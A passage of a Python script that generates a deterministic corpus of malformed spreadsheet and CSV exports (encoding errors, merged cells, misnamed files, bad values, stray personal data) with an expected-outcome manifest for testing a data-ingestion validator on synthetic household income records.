"""Build the corpus of hostile exports in this folder, and its manifest ``expected.yaml``.

Every file is derived from one tiny SYNTHETIC export (1 county x 6 households x 2 years, seed 11, 42
person-rows; the names, ID numbers and phone numbers in it are fictitious) by one damage an export meets
on its way from the monitoring system through Excel to an evaluator. The build is deterministic: running
it again rewrites the same bytes (XLSX files get fixed timestamps). The reference export ``clean.csv`` is
read back when it exists, so that recalibrating the synthetic generator does not move the corpus; delete
it to draw a new one from the generator.

Run from the project root::

    python tests/data/bad/make_corpus.py

Row numbers in the manifest are spreadsheet rows (the header is row 1, the first data row is row 2) of
the clean export unless the case itself moves rows.
"""
from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import yaml

from analysis.io import synth

HERE = Path(__file__).resolve().parent
SEED = 11
FIXED_TIME = (2021, 1, 1, 0, 0, 0)
MEMBER_COLUMNS = ["人编号", "姓名", "证件号码", "联系电话", "与户主关系", "性别", "文化程度", "在校生状况", "健康状况",
                  "劳动技能", "务工时间（月）", "务工所在地", "务工收入", "是否帮扶车间就业", "公益性岗位(月数)",
                  "是否参加技能培训", "培训类型", "是否取得证书"]
COMPONENTS = ["工资性收入", "生产经营性收入", "财产性收入", "转移性收入"]
# Cases whose damage is to the form only: once repaired, they give exactly the tables of clean.csv.
SAME_AS_CLEAN = ("merged_header.xlsx", "merged_cells_down.xlsx", "traditional_headers.csv", "totals_row.csv",
                 "blank_rows.csv", "export_utf8.csv", "utf16_unicode_text.txt", "ids_float_artefact.csv",
                 "household_values_first_row_only.csv", "title_row.csv", "semicolon_separated.csv",
                 "mixed_encodings/", "dates_excel_serial.csv", "dates_text.xlsx", "coding_line_wrong.csv",
                 "trailing_separators.csv", "same_column_identical.csv", "xlsx_named_csv.csv",
                 "sheets_per_township.xlsx", "instructions_sheet_first.xlsx", "other_sheet_other_headers.xlsx",
                 "ids_leading_zeros_lost.csv", "ids_leading_zeros_lost.xlsx", "county_short_name.csv",
                 "county_short_name_two_files/")


def base() -> pd.DataFrame:
    """The clean export, every cell as text (as a CSV holds it): ``clean.csv`` if it exists, else drawn."""
    if (HERE / "clean.csv").exists():
        return pd.read_csv(HERE / "clean.csv", dtype=str, keep_default_na=False, encoding="utf-8")
    export = synth.generate(seed=SEED, counties=1, households_per_county=6, years=(2021, 2022)).export
    return export.astype(str)


def row_of(frame: pd.DataFrame, hid: str, year: int) -> int:
    """Spreadsheet row of a household-year's first member row (header = row 1)."""
    hit = frame.index[(frame["户编号"] == hid) & (frame["年度"] == str(year))]
    return int(list(frame.index).index(hit[0])) + 2


def set_amounts(frame: pd.DataFrame, hid: str, year: int, written: dict[str, str], values: dict[str, float],
                size: int | None = None) -> pd.DataFrame:
    """Write amounts of one household-year as text, and restate its totals so that they reconcile."""
    f = frame.copy()
    rows = (f["户编号"] == hid) & (f["年度"] == str(year))
    for column, text in written.items():
        f.loc[rows, column] = text
    first = f.index[rows][0]
    amount = {c: float(frame.at[first, c]) for c in [*COMPONENTS, "生产经营性支出"]} | values
    net = sum(amount[c] for c in COMPONENTS) - amount["生产经营性支出"]
    size = size or int(frame.at[first, "家庭人口数"])
    f.loc[rows, "纯收入（元）"] = f"{net:.0f}"
    f.loc[rows, "人均纯收入（元）"] = f"{net / size:.2f}"
    if size != int(frame.at[first, "家庭人口数"]):
        f.loc[rows, "家庭人口数"] = str(size)
    return f


def csv_bytes(frame: pd.DataFrame, encoding: str = "utf-8", sep: str = ",") -> bytes:
    return frame.to_csv(index=False, sep=sep, lineterminator="\r\n").encode(encoding)


def stable_zip(data: bytes) -> bytes:
    """The same workbook with fixed entry timestamps and document dates, so rebuilding gives equal bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in sorted(src.infolist(), key=lambda i: i.filename):
            content = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = re.sub(rb"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z", b"2021-01-01T00:00:00Z", content)
            dst.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def xlsx_bytes(rows: list[list], merges: list[str] = (), extra: dict[str, list[list]] | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Sheet1"
    for row in rows:
        sheet.append(row)
    for ref in merges:
        sheet.merge_cells(ref)
    for name, extra_rows in (extra or {}).items():
        other = book.create_sheet(name)
        for row in extra_rows:
            other.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return stable_zip(buffer.getvalue())


def frame_rows(frame: pd.DataFrame) -> list[list]:
    return [list(frame.columns)] + frame.to_numpy().tolist()


def png_bytes() -> bytes:
    """A valid 2x2 grey PNG image."""
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    pixels = zlib.compress(b"\x00\x80\x80\x00\x80\x80")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))


def pdf_bytes() -> bytes:
    return (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def excel_serial(day: str) -> str:
    return str((pd.Timestamp(day) - pd.Timestamp("1899-12-30")).days)


def cases(e: pd.DataFrame) -> dict[str, tuple[dict[str, bytes], dict]]:
    """name -> ({relative path: bytes}, manifest entry)."""
    h0, h1, h2, h3, h4, h5 = e["户编号"].unique()
    out: dict[str, tuple[dict[str, bytes], dict]] = {}

    def add(name, files, outcome, message, row=None, column=None, **extra):
        entry = {"outcome": outcome, "message": message}
        if name in SAME_AS_CLEAN:
            entry["same_as_clean"] = True
        if row is not None:
            entry["row"] = row
        if column is not None:
            entry["column"] = column
        entry.update(extra)
        out[name] = (files, entry)

    add("clean.csv", {"clean.csv": csv_bytes(e)}, "accepted", "Accepted: 12 household-years",
        case="the tiny export as it should be (reference)")

    # ---------------------------------------------------------------- encodings
    add("export_utf8.csv", {"export_utf8.csv": csv_bytes(e, "gbk")}, "repaired",
        "its file name says the file is utf8, but its bytes are gb18030",
        case="GBK file whose name claims UTF-8: the bytes decide")
    add("coding_line_wrong.csv", {"coding_line_wrong.csv": b"# -*- coding: gbk -*-\r\n" + csv_bytes(e)}, "repaired",
        "its first line says the file is gbk, but its bytes are utf-8",
        case="UTF-8 file whose first line declares GBK: the bytes decide, the line is skipped")
    mixed = csv_bytes(e.iloc[:21], "gbk") + csv_bytes(e.iloc[21:], "utf-8").split(b"\r\n", 1)[1]
    add("mixed_encoding_lines.csv", {"mixed_encoding_lines.csv": mixed}, "refused", "mixes encodings", row=23,
        case="rows 2-22 in GBK, rows 23-43 in UTF-8 (pasted from another file)")
    first3 = e["户编号"].isin([h0, h1, h2])
    add("mixed_encodings/", {"mixed_encodings/part_gbk.csv": csv_bytes(e[first3], "gbk"),
                             "mixed_encodings/part_utf8.csv": csv_bytes(e[~first3], "utf-8-sig")},
        "accepted", "gb18030", case="two files of one ingest, one GBK and one UTF-8 with BOM")
    add("utf16_unicode_text.txt", {"utf16_unicode_text.txt": b"\xff\xfe" + csv_bytes(e, "utf-16-le", "\t")},
        "repaired", "separated by a tab", case="Excel 'Unicode text': UTF-16 with byte-order mark, tab-separated")
    add("bom_then_gbk.csv", {"bom_then_gbk.csv": b"\xef\xbb\xbf" + csv_bytes(e, "gbk")}, "refused",
        "byte-order mark", row=1, case="a UTF-8 byte-order mark in front of GBK text")

    # ---------------------------------------------------------------- table shapes
    income = ["工资性收入", "生产经营性收入", "财产性收入", "转移性收入", "生产经营性支出"]
    cols = list(e.columns)
    top = [("收入情况（元）" if c == income[0] else "") if c in income else c for c in cols]
    second = [c if c in income else "" for c in cols]
    letters = [openpyxl.utils.get_column_letter(i + 1) for i in range(len(cols))]
    merges = [f"{letters[cols.index(income[0])]}1:{letters[cols.index(income[-1])]}1"]
    merges += [f"{letters[i]}1:{letters[i]}2" for i, c in enumerate(cols) if c not in income]
    body = e.to_numpy().tolist()
    add("merged_header.xlsx", {"merged_header.xlsx": xlsx_bytes([top, second, *body], merges)}, "repaired",
        "two-row header", case="Excel header in two rows: 收入情况（元） merged over the five amount columns",
        values=[{"household": h0, "year": 2021, "column": "income_wage", "value": float(e.iloc[0]["工资性收入"])}])
    title = [["示例县2021-2022年防返贫监测信息表"] + [""] * (len(cols) - 1)]
    add("title_row.csv", {"title_row.csv": (",".join(title[0]) + "\r\n").encode() + csv_bytes(e)},
        "repaired", "is a title above the header", case="a one-cell title row above the header")
    level = ["户编号", "家庭人口数", "户类型", *income, "纯收入（元）", "人均纯收入（元）"]
    rows, merges = [list(cols)], []
    for _, grp in e.groupby(["年度", "户编号"], sort=False):
        start = len(rows) + 1
        for k, (_, r) in enumerate(grp.iterrows()):
            rows.append([("" if k and c in level else v) for c, v in zip(cols, r.tolist())])
        if len(grp) > 1:
            merges += [f"{letters[cols.index(c)]}{start}:{letters[cols.index(c)]}{start + len(grp) - 1}"
                       for c in level]
    add("merged_cells_down.xlsx", {"merged_cells_down.xlsx": xlsx_bytes(rows, merges)}, "repaired",
        "cells merged down a column were filled", case="household cells merged down each household's member rows")
    traditional = {"户编号": "戶編號", "县(市、区、旗)": "縣（市、區、旗）", "工资性收入": "工資性收入", "家庭人口数": "家庭人口數",
                   "户类型": "戶類型", "务工时间（月）": "務工時間（月）", "纯收入（元）": "純收入　（元）", "人编号": "人編號",
                   "生产经营性收入": "生產經營性收入", "财产性收入": "財產性收入", "转移性收入": "轉移性收入",
                   "生产经营性支出": "生產經營性支出", "人均纯收入（元）": "人均純收入(元)", "证件号码": "證件號碼",
                   "联系电话": "聯繫電話", "年度": " 年 度 "}
    t = e.rename(columns=traditional)
    t["戶類型"] = t["戶類型"].map({"脱贫户": "脫貧戶", "一般农户": "一般農戶"})
    add("traditional_headers.csv", {"traditional_headers.csv": csv_bytes(t)}, "repaired",
        "matched after folding", case="headers and 户类型 values in traditional characters, full-width brackets/spaces")
    totals = {c: "" for c in cols} | {"县(市、区、旗)": "合计"}
    for c in [*income, "纯收入（元）"]:
        totals[c] = str(sum(int(v) for v in e.drop_duplicates(["户编号", "年度"])[c]))
    add("totals_row.csv", {"totals_row.csv": csv_bytes(pd.concat([e, pd.DataFrame([totals])], ignore_index=True))},
        "repaired", "totals row(s)", case="a 合计 row with column sums at the end")
    blank = pd.DataFrame([{c: "" for c in cols}])
    with_blanks = pd.concat([e.iloc[:5], blank, e.iloc[5:], blank, blank], ignore_index=True)
    add("blank_rows.csv", {"blank_rows.csv": csv_bytes(with_blanks)}, "repaired", "blank row(s) skipped",
        case="blank rows inside and at the end")
    add("header_only.csv", {"header_only.csv": csv_bytes(e.iloc[:0])}, "refused", "header but no data rows",
        case="the header and nothing else")
    add("empty.csv", {"empty.csv": b""}, "refused", "the file is empty", case="0 bytes")
    trail = csv_bytes(e).replace(b"\r\n", b",,\r\n")
    trail = trail.split(b"\r\n", 1)[0].removesuffix(b",,") + b"\r\n" + trail.split(b"\r\n", 1)[1]
    add("trailing_separators.csv", {"trailing_separators.csv": trail}, "repaired", "empty values beyond the header",
        case="every data row ends with two extra commas")
    add("semicolon_separated.csv", {"semicolon_separated.csv": csv_bytes(e, sep=";")}, "repaired",
        "separated by ';'", case="semicolon-separated (European Excel settings)")

    # ---------------------------------------------------------------- not tables
    add("png_renamed.csv", {"png_renamed.csv": png_bytes()}, "refused", "PNG image", case="an image renamed .csv")
    add("pdf_renamed.csv", {"pdf_renamed.csv": pdf_bytes()}, "refused", "PDF document", case="a PDF renamed .csv")
    rng = np.random.default_rng(SEED)
    add("random_binary.csv", {"random_binary.csv": rng.integers(0, 256, 2048, dtype=np.uint8).tobytes()},
        "refused", "binary data", case="random bytes")
    clean_xlsx = xlsx_bytes(frame_rows(e))
    add("truncated.xlsx", {"truncated.xlsx": clean_xlsx[: len(clean_xlsx) // 2]}, "refused",
        "damaged or incomplete", case="the first half of a workbook (interrupted copy)")
    add("html_as_xls.xls", {"html_as_xls.xls": ("<html><body><table><tr><td>户编号</td><td>年度</td></tr>"
                                                "<tr><td>0002020000</td><td>2021</td></tr></table></body></html>")
                            .encode("utf-8")}, "refused", "HTML/XML page", case="a web page saved as .xls")
    add("xlsx_named_csv.csv", {"xlsx_named_csv.csv": clean_xlsx}, "repaired", "an Excel workbook named .csv",
        case="a workbook renamed .csv")

    # ---------------------------------------------------------------- rows and cells
    lines = csv_bytes(e).split(b"\r\n")
    lines[7] = lines[7].replace(b",,", b",\xe5\xae\xb6\xe6\x94\xbf,\xe7\x94\xb5\xe5\xb7\xa5,", 1) \
        if b",," in lines[7] else lines[7] + b",extra"
    add("ragged_row.csv", {"ragged_row.csv": b"\r\n".join(lines)}, "refused", "values but the header has", row=8,
        case="an unquoted comma inside a value adds a field to row 8")
    lines = csv_bytes(e).split(b"\r\n")
    fields = lines[10].split(b",")
    lines[10] = b",".join(fields[:11] + fields[12:])
    add("short_row.csv", {"short_row.csv": b"\r\n".join(lines)}, "refused", "values after it may have shifted",
        row=11, case="one value and its comma deleted in row 11 (性别)")
    lines = csv_bytes(e).split(b"\r\n")
    lines[4] = lines[4].replace(b",\xe6\x88\xb7\xe4\xb8\xbb,", b",\"\xe6\x88\xb7\xe4\xb8\xbb,", 1) \
        if b",\xe6\x88\xb7\xe4\xb8\xbb," in lines[4] else lines[4].replace(b",", b",\"", 1)
    add("unclosed_quote.csv", {"unclosed_quote.csv": b"\r\n".join(lines)}, "refused", "quotation mark", row=5,
        case="a stray opening quotation mark in row 5")
    dup = pd.concat([e.iloc[:4], e.iloc[[3]], e.iloc[4:]], ignore_index=True)
    add("duplicate_person_rows.csv", {"duplicate_person_rows.csv": csv_bytes(dup)}, "refused",
        "the same person appears more than once", row=5, column="人编号", case="row 5 pasted twice")
    households = e.drop(columns=MEMBER_COLUMNS).drop_duplicates(["户编号", "年度"]).reset_index(drop=True)
    hh_dup = pd.concat([households, households.iloc[[3]]], ignore_index=True)
    add("duplicate_household.csv", {"duplicate_household.csv": csv_bytes(hh_dup)}, "refused",
        "duplicate household", row=5, column="户编号", case="a household file with one household-year twice")
    members = e[["县(市、区、旗)", "户编号", "人编号", "证件号码", "年度", "性别", "劳动技能", "务工时间（月）", "务工所在地"]]
    add("member_without_household/", {"member_without_household/households.csv":
                                      csv_bytes(households[households["户编号"] != h5]),
                                      "member_without_household/members.csv": csv_bytes(members)},
        "refused", "missing from the household data", row=row_of(e, h5, 2021), column="户编号",
        file="members.csv", case="separate household and member files; one household left out of the first")
    sized = set_amounts(e, h3, 2021, {}, {}, size=5)
    add("size_mismatch.csv", {"size_mismatch.csv": csv_bytes(sized)}, "refused", "states 5 members",
        row=row_of(e, h3, 2021), column="家庭人口数", case="家庭人口数 5 for a household with 4 member rows")
    differ = e.copy()
    differ.loc[differ.index[(differ["户编号"] == h5) & (differ["年度"] == "2022")][2], "户类型"] = "脱贫户"
    add("household_values_disagree.csv", {"household_values_disagree.csv": csv_bytes(differ)}, "refused",
        "disagree on 户类型", row=row_of(e, h5, 2022), column="户类型",
        case="one member row of a 一般农户 household says 脱贫户")
    first_only = e.copy()
    later = first_only.duplicated(["户编号", "年度"])
    first_only.loc[later, ["家庭人口数", "户类型", *income, "纯收入（元）", "人均纯收入（元）"]] = ""
    add("household_values_first_row_only.csv", {"household_values_first_row_only.csv": csv_bytes(first_only)},
        "repaired", "copied from the household's other rows",
        case="household values on the first member row only (a merged-cell sheet saved as CSV)",
        values=[{"household": h3, "year": 2022, "column": "size", "value": 4}])

    # ---------------------------------------------------------------- headers
    twice = e.assign(**{"工资性收入（元）": (e["工资性收入"].astype(int) + 1).astype(str)})
    add("same_column_twice.csv", {"same_column_twice.csv": csv_bytes(twice)}, "refused", "both mean income_wage",
        row=1, column="工资性收入（元）", case="工资性收入 and 工资性收入（元） with different values")
    add("same_column_identical.csv", {"same_column_identical.csv": csv_bytes(e.assign(**{"工资性收入(元)":
                                                                                           e["工资性收入"]}))},
        "repaired", "hold identical values", case="工资性收入 repeated as 工资性收入(元) with the same values")
    hidden = e.drop(columns=["证件号码", "联系电话"]).assign(备用字段1=e["证件号码"], 其他信息=e["联系电话"])
    add("id_number_unknown_header.csv", {"id_number_unknown_header.csv": csv_bytes(hidden)}, "repaired",
        "holds id numbers by its content; dropped",
        case="ID numbers under 备用字段1 and phone numbers under 其他信息 (unknown headers)")
    sci = e.drop(columns=["人编号"]).assign(证件号码=e["证件号码"].map(lambda v: f"{float(v[:17] + '0'):.5E}"))
    add("ids_scientific_notation.csv", {"ids_scientific_notation.csv": csv_bytes(sci)}, "refused",
        "scientific notation", row=2, column="证件号码", case="ID numbers shown by Excel as 4.19021E+17, no 人编号")
    add("ids_float_artefact.csv", {"ids_float_artefact.csv": csv_bytes(e.assign(户编号=e["户编号"] + ".0"))},
        "repaired", "identifier(s) tidied", case="户编号 written as 0002020000.0 by a program that read it as a number")
    formula = frame_rows(e)
    net_at, first_at = cols.index("纯收入（元）"), cols.index(income[0])
    for r in range(1, len(formula)):
        refs = [f"{letters[first_at + k]}{r + 1}" for k in range(5)]
        formula[r][net_at] = f"={'+'.join(refs[:4])}-{refs[4]}"
    add("formula_without_values.xlsx", {"formula_without_values.xlsx": xlsx_bytes(formula)}, "refused",
        "without a saved result", row=2, column="纯收入（元）", sheet="Sheet1",
        case="纯收入 as formulas written by a program that does not calculate (no saved results)")
    add("extra_sheet.xlsx", {"extra_sheet.xlsx": xlsx_bytes(frame_rows(e), extra={"2023": frame_rows(e.iloc[:3])})},
        "refused", "in more than one file or sheet", row=2, column="户编号", sheet="Sheet1",
        case="a second sheet with the same headers repeating rows of the first (sheets with the table are combined)")

    # ---------------------------------------------------------------- values
    units = set_amounts(e, h0, 2021, {"工资性收入": "12,345元"}, {"工资性收入": 12345.0})
    units = set_amounts(units, h2, 2022, {"工资性收入": "1.2万"}, {"工资性收入": 12000.0})
    units = set_amounts(units, h4, 2021, {"财产性收入": "¥１,０００"}, {"财产性收入": 1000.0})
    add("units_and_separators.csv", {"units_and_separators.csv": csv_bytes(units)}, "repaired",
        "value(s) repaired", case="amounts written as 12,345元, 1.2万 and ¥１,０００ (full-width digits)",
        values=[{"household": h0, "year": 2021, "column": "income_wage", "value": 12345.0},
                {"household": h2, "year": 2022, "column": "income_wage", "value": 12000.0},
                {"household": h4, "year": 2021, "column": "income_property", "value": 1000.0}])
    blanks = set_amounts(e, h4, 2021, {"财产性收入": ""}, {"财产性收入": 0.0})
    add("blank_incomes.csv", {"blank_incomes.csv": csv_bytes(blanks)}, "repaired", "read as 0",
        case="an empty income cell",
        values=[{"household": h4, "year": 2021, "column": "income_property", "value": 0.0}])
    pct = e.copy()
    pct.loc[(pct["户编号"] == h3) & (pct["年度"] == "2021"), "工资性收入"] = "35%"
    add("percent_in_income.csv", {"percent_in_income.csv": csv_bytes(pct)}, "refused",
        "a percentage is not an amount", row=row_of(e, h3, 2021), column="工资性收入", case="35% as a wage income")
    add("negative_income.csv", {"negative_income.csv": csv_bytes(set_amounts(e, h4, 2021, {"财产性收入": "-500"},
                                                                             {"财产性收入": -500.0}))},
        "refused", "below the minimum 0", row=row_of(e, h4, 2021), column="财产性收入", case="财产性收入 -500")
    absurd = set_amounts(e, h2, 2022, {"工资性收入": "99000000"}, {"工资性收入": 99e6})
    add("absurd_income.csv", {"absurd_income.csv": csv_bytes(absurd)}, "refused", "beyond belief",
        row=row_of(e, h2, 2022), column="工资性收入", case="99 million yuan of wages for a household of two")
    off = e.copy()
    off.loc[(off["户编号"] == h5) & (off["年度"] == "2021"), "纯收入（元）"] = "204318"
    add("not_reconciled.csv", {"not_reconciled.csv": csv_bytes(off)}, "refused", "does not reconcile",
        row=row_of(e, h5, 2021), column="纯收入（元）", case="纯收入 100,000 above the sum of its components")
    monitored = (e["户编号"] == h1)
    serial = e.copy()
    serial.loc[monitored, "识别监测时间"] = excel_serial("2021-09-08")
    serial.loc[monitored & (e["年度"] == "2022"), "消除监测时间"] = excel_serial("2022-06-07")
    add("dates_excel_serial.csv", {"dates_excel_serial.csv": csv_bytes(serial)}, "repaired", "Excel day number",
        case="dates as Excel serial day numbers (44447)",
        values=[{"household": h1, "year": 2022, "column": "monitoring_start", "value": "2021-09-08"},
                {"household": h1, "year": 2022, "column": "elimination_date", "value": "2022-06-07"}])
    text_dates = e.copy()
    text_dates.loc[monitored, "识别监测时间"] = "2021年9月8日"
    text_dates.loc[monitored & (e["年度"] == "2022"), "消除监测时间"] = "2022/6/7"
    add("dates_text.xlsx", {"dates_text.xlsx": xlsx_bytes(frame_rows(text_dates))}, "repaired", "2021年3月5日",
        case="dates written as 2021年9月8日 and 2022/6/7",
        values=[{"household": h1, "year": 2021, "column": "monitoring_start", "value": "2021-09-08"},
                {"household": h1, "year": 2022, "column": "elimination_date", "value": "2022-06-07"}])
    ambiguous = e.copy()
    ambiguous.loc[monitored, "识别监测时间"] = "9/8/2021"
    add("date_ambiguous.csv", {"date_ambiguous.csv": csv_bytes(ambiguous)}, "refused", "ambiguous order",
        row=row_of(e, h1, 2021), column="识别监测时间", case="9/8/2021: September 8 or August 9?")
    early = e.copy()
    early.loc[monitored & (e["年度"] == "2022"), "消除监测时间"] = "2021-01-05"
    add("elimination_before_monitoring.csv", {"elimination_before_monitoring.csv": csv_bytes(early)}, "refused",
        "before monitoring started", row=row_of(e, h1, 2022), column="消除监测时间",
        case="risk eliminated eight months before monitoring started")
    for year, name in ((1921, "year_1921.csv"), (2091, "year_2091.csv")):
        typo = e.copy()
        source = 2021 if year == 1921 else 2022
        typo.loc[(typo["户编号"] == h2) & (typo["年度"] == str(source)), "年度"] = str(year)
        add(name, {name: csv_bytes(typo)}, "refused", "outside the years with a monitoring threshold",
            row=row_of(e, h2, source), column="年度", case=f"年度 {year} for one household (a typing error)")
    numeric = e.copy()
    numeric.loc[numeric["户编号"] == h0, "县(市、区、旗)"] = "410102"
    add("county_numeric.csv", {"county_numeric.csv": csv_bytes(numeric)}, "refused", "is not a county name",
        row=2, column="县(市、区、旗)", case="a county code instead of a county name")
    typo = e.copy()
    typo.loc[typo["户编号"] == h5, "县(市、区、旗)"] = "北领县"
    add("county_unknown.csv", {"county_unknown.csv": csv_bytes(typo)}, "refused",
        "is not in the list of known counties", row=row_of(e, h5, 2021), column="县(市、区、旗)",
        counties=[str(e["县(市、区、旗)"].iloc[0])], case="北领县 for 北岭县, with a list of known counties configured")
    phone = e.copy()
    phone.loc[phone.index[12], "培训类型"] = "13812345678"
    add("phone_in_text_column.csv", {"phone_in_text_column.csv": csv_bytes(phone)}, "refused", "personal data",
        row=14, column="培训类型", personal=["13812345678"],
        case="a phone number typed into 培训类型, a column that is kept")
    address = e["乡(镇)"] + e["行政村"] + (e.groupby("户编号").ngroup() % 7 + 1).astype(str) + "组" + \
        (e.groupby("户编号").ngroup() * 3 + 2).astype(str) + "号"
    hidden = e.drop(columns=["姓名"]).assign(联系人=e["姓名"], 户籍信息=address)
    add("names_unknown_header.csv", {"names_unknown_header.csv": csv_bytes(hidden)}, "repaired",
        "holds names by its content; dropped", same_as_clean=True, personal=sorted(set(address)),
        case="names under 联系人 and street addresses under 户籍信息 (unknown headers)")
    shifted = e.assign(行政村=e["姓名"])
    add("names_in_village_column.csv", {"names_in_village_column.csv": csv_bytes(shifted)}, "refused",
        "read as names of people", row=1, column="行政村",
        case="names of people in 行政村, a column that is kept (columns shifted by hand)")
    typed = e.copy()
    typed.loc[typed.index[0], "行政村"] = address.iloc[0]
    add("address_in_text_column.csv", {"address_in_text_column.csv": csv_bytes(typed)}, "refused",
        "personal data", row=2, column="行政村", personal=[address.iloc[0]],
        case="a home address with house number typed into 行政村, a column that is kept")
    offices(e, add)
    hostile_names(e, add)
    return out


def xlsx_sheets(sheets: dict[str, list[list]]) -> bytes:
    """A workbook with the given sheets, in order (name -> rows)."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return stable_zip(buffer.getvalue())


def _record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def _xl_string(text: str, short: bool = False) -> bytes:
    data = text.encode("utf-16-le")
    return (struct.pack("<BB", len(text), 1) if short else struct.pack("<HB", len(text), 1)) + data


#: BIFF8 codes of the errors Excel shows in a cell.
XLS_ERRORS = {"#NULL!": 0x00, "#DIV/0!": 0x07, "#VALUE!": 0x0F, "#REF!": 0x17, "#NAME?": 0x1D, "#NUM!": 0x24,
              "#N/A": 0x2A}


class XlsFormulaError(str):
    """A cell of :func:`xls_bytes` holding a formula whose saved result is this error (``#DIV/0!``...)."""


def xls_bytes(rows: list[list]) -> bytes:
    """A legacy Excel 97-2003 workbook (BIFF8 in an OLE2 compound file) of one sheet: numbers as NUMBER
    records, text as LABEL records, an error text of :data:`XLS_ERRORS` as a BOOLERR error cell and an
    :class:`XlsFormulaError` as a FORMULA record (=1/0) whose saved result is that error; enough for a
    reader of .xls files, made without an .xls writer."""
    bof = lambda dt: _record(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC, 0, 6))
    cells = b""
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is None or value == "":
                continue
            if isinstance(value, XlsFormulaError):
                formula = bytes([0x1E, 1, 0, 0x1E, 0, 0, 0x06])            # ptgInt 1, ptgInt 0, ptgDiv
                result = bytes([2, 0, XLS_ERRORS[value], 0, 0, 0, 0xFF, 0xFF])
                cells += _record(0x0006, struct.pack("<HHH", r, c, 0) + result
                                 + struct.pack("<HIH", 0, 0, len(formula)) + formula)
            elif isinstance(value, str) and value in XLS_ERRORS:
                cells += _record(0x0205, struct.pack("<HHHBB", r, c, 0, XLS_ERRORS[value], 1))
            elif isinstance(value, (int, float)) and not isinstance(value, bool):
                cells += _record(0x0203, struct.pack("<HHHd", r, c, 0, float(value)))
            else:
                cells += _record(0x0204, struct.pack("<HHH", r, c, 0) + _xl_string(str(value)))
    width = max((len(r) for r in rows), default=0)
    sheet = bof(0x0010) + _record(0x0200, struct.pack("<IIHHH", 0, len(rows), 0, width, 0)) + cells + \
        _record(0x000A, b"")
    name = _xl_string("Sheet1", short=True)
    head = bof(0x0005) + _record(0x0042, struct.pack("<H", 1200))
    boundsheet_len = 4 + 6 + len(name)
    globals_len = len(head) + boundsheet_len + 4
    stream = head + _record(0x0085, struct.pack("<IBB", globals_len, 0, 0) + name) + _record(0x000A, b"") + sheet
    stream += b"\x00" * (max(4096, -(-len(stream) // 512) * 512) - len(stream))
    return _ole(stream)


def _ole(stream: bytes, name: str = "Workbook") -> bytes:
    """An OLE2 compound file holding one stream named ``name`` (512-byte sectors, no mini stream)."""
    n_data = len(stream) // 512
    n_fat = 1
    while (n_fat + 1 + n_data) > n_fat * 128:
        n_fat += 1
    assert n_fat <= 109
    fat = [0xFFFFFFFD] * n_fat + [0xFFFFFFFE]           # FAT sectors, then the directory sector
    first = n_fat + 1
    fat += [first + i + 1 for i in range(n_data - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (n_fat * 128 - len(fat))
    difat = list(range(n_fat)) + [0xFFFFFFFF] * (109 - n_fat)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\x00" * 6 + struct.pack("<IIIIIIIII", 0, n_fat, n_fat, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
              + struct.pack("<109I", *difat))

    def entry(name, kind, child, start, size):
        encoded = name.encode("utf-16-le") + b"\x00\x00" if name else b""
        return (encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1 if name else 0)
                + struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, child) + b"\x00" * 16 + b"\x00" * 4 + b"\x00" * 16
                + struct.pack("<IQ", start, size))
    directory = (entry("Root Entry", 5, 1, 0xFFFFFFFE, 0) + entry(name, 2, 0xFFFFFFFF, first, len(stream))
                 + entry("", 0, 0xFFFFFFFF, 0, 0) * 2)
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + stream


def offices(e: pd.DataFrame, add) -> None:
    """Cases of the files offices really send: one sheet per township, Excel numbers and errors, names of
    counties written two ways, legacy workbooks, subtotals, signatures and contact details under the table."""
    h0, h1, h2, h3, h4, h5 = e["户编号"].unique()
    cols = list(e.columns)
    towns = list(dict.fromkeys(e["乡(镇)"]))
    add("sheets_per_township.xlsx", {"sheets_per_township.xlsx": xlsx_sheets(
        {t: frame_rows(e[e["乡(镇)"] == t]) for t in towns})}, "repaired", "sheets hold the same table",
        case="one sheet per township (平泰镇, 安丰镇, 长福镇), each with the header: read together")
    other = xlsx_sheets({"Sheet1": frame_rows(e), "汇总表": [["乡(镇)", "户数", "人数"]] + [
        [t, str(e[e["乡(镇)"] == t]["户编号"].nunique()), str((e["乡(镇)"] == t).sum())] for t in towns]})
    add("other_sheet_other_headers.xlsx", {"other_sheet_other_headers.xlsx": other}, "repaired",
        "also hold data, under other headers", case="a summary sheet with other headers after the table: not read")
    instructions = [["填表说明"], ["1. 户编号为10位数字，以文本格式填写。"], ["2. 收入单位为元。"], ["3. 每户成员各占一行。"]]
